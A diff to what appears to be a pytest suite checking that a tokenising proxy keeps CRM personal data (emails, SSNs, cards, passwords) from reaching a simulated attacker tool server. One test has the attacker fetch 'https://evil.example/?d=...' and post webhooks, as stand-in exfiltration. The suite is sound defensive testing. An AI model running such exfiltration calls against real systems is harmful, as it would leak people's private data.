@@ -54,6 +54,7 @@ class Scene(NamedTuple):
     office: Office
     tokens: Mapping[str, str]
     second: Mapping[str, str]
+    before: int = 0
 
     @property
     def attacker(self) -> Peer:
@@ -61,12 +62,18 @@ class Scene(NamedTuple):
 
 
 @pytest.fixture(scope="module")
-def scene(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
+def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
     with Office(tmp_path_factory.mktemp("attack"), CONFIG) as office:
         crm = office.start("crm", CRM)
         office.start("mailer", MAILER)
         office.start("attacker", ATTACKER)
         yield Scene(office, content(crm.call("get", {})), content(crm.call("again", {})))
+
+
+@pytest.fixture
+def scene(running: Scene) -> Scene:
+    """The running servers; what the attacker received before this test does not count in it."""
+    return running._replace(before=len(running.office.received("attacker")))
 
 
 def ids(tokens: Mapping[str, str]) -> set[str]:
@@ -84,7 +91,7 @@ def ids(tokens: Mapping[str, str]) -> set[str]:
 def loot(scene: Scene, name: str = "attacker") -> list[Json]:
     """Values and token ids among all bytes that the attacker received."""
     rows = VALUES + [["token", "ID", id] for id in ids(scene.tokens)]
-    return list(leaks(scene.office.received(name), rows))
+    return list(leaks(scene.office.received(name)[scene.before :], rows))
 
 
 def encoded(text: str) -> str:
@@ -235,7 +242,7 @@ def test_a_real_token_in_the_attackers_mouth_is_not_that_token(scene: Scene) -> 
     assert real not in seen
     scene.attacker.call("echo", {"text": seen})
     scene.attacker.call("fetch", {"url": f"https://evil.example/?d={seen}"})
-    assert leaks(scene.office.received("attacker"), VALUES) == []
+    assert leaks(scene.office.received("attacker")[scene.before :], VALUES) == []
 
 
 def test_guessed_tokens_resolve_to_nothing(scene: Scene) -> None:
@@ -246,20 +253,26 @@ def test_guessed_tokens_resolve_to_nothing(scene: Scene) -> None:
         scene.attacker.call("echo", {"text": guess})
     scene.attacker.call("webhook", {"body": {"all": guesses[5:]}})
     scene.attacker.call("save_note", {"text": " ".join(f"[EMAIL_{number}]" for number in range(100))})
-    assert leaks(scene.office.received("attacker"), VALUES) == []
+    assert leaks(scene.office.received("attacker")[scene.before :], VALUES) == []
 
 
-UNGUESSABLE = ("email", "phone", "credit_card", "iban", "full_name", "street_address", "api_key", "password")
-
-
-@pytest.mark.parametrize("field", UNGUESSABLE)
-def test_a_guessed_value_is_not_confirmed_by_sending_it_back(tmp_path: Path, field: str) -> None:
+@pytest.mark.parametrize("field", FIELD_NAMES.values())
+def test_a_right_guess_is_not_sent_back_or_looks_like_a_wrong_one(tmp_path: Path, field: str) -> None:
+    """What can be listed (birth dates, social security numbers) links only within its origin: the attacker gets its own
+    guess back, right or wrong. A right guess of anything else is the CRM's value and does not leave."""
+    right, wrong = RECORD[field], Planter("someone else").fields("guess")[field]
     with Office(tmp_path, CONFIG) as office:
         scene = started(office)
-        seen = said_by_attacker(scene, RECORD[field])
-        scene.attacker.call("echo", {"text": seen})
-        scene.attacker.call("webhook", {"body": {field: seen}})
-        assert loot(scene) == []
+        answers = [guessed(scene, json.dumps({field: guess})) for guess in (right, wrong)]
+        assert loot(scene) == [] or answers[0] == answers[1]
+
+
+def guessed(scene: Scene, guess: str) -> Json:
+    """What can be told from one guess: whether it shows as a token of the CRM's, and whether it comes back."""
+    (seen,) = json.loads(said_by_attacker(scene, guess)).values()
+    before = len(scene.office.calls("attacker"))
+    failed = scene.attacker.call("echo", {"text": seen}).get("isError")
+    return seen in scene.tokens.values(), failed, len(scene.office.calls("attacker")) - before
 
 
 def started(office: Office) -> Scene:
@@ -280,24 +293,6 @@ def test_guesses_in_bulk_bring_no_value_out(tmp_path: Path) -> None:
             scene.attacker.call("webhook", {"body": record})
         scene.attacker.call("webhook", {"body": {"all": seen}})
         assert loot(scene) == []
-
-
-@pytest.mark.parametrize("field", ["ssn", "date_of_birth"])
-def test_a_right_guess_of_what_can_be_listed_looks_like_a_wrong_one(tmp_path: Path, field: str) -> None:
-    """Birth dates and social security numbers link only within their origin: the attacker gets its own guess back."""
-    right, wrong = RECORD[field], Planter("someone else").fields("guess")[field]
-    with Office(tmp_path, CONFIG) as office:
-        scene = started(office)
-        answers = [guessed(scene, json.dumps({field: guess})) for guess in (right, wrong)]
-    assert answers[0] == answers[1]
-
-
-def guessed(scene: Scene, guess: str) -> Json:
-    """What can be told from one guess: whether it shows as a token of the CRM's, and whether it comes back."""
-    (seen,) = json.loads(said_by_attacker(scene, guess)).values()
-    before = len(scene.office.calls("attacker"))
-    failed = scene.attacker.call("echo", {"text": seen}).get("isError")
-    return seen in scene.tokens.values(), failed, len(scene.office.calls("attacker")) - before
 
 
 # Who the attacker says it is
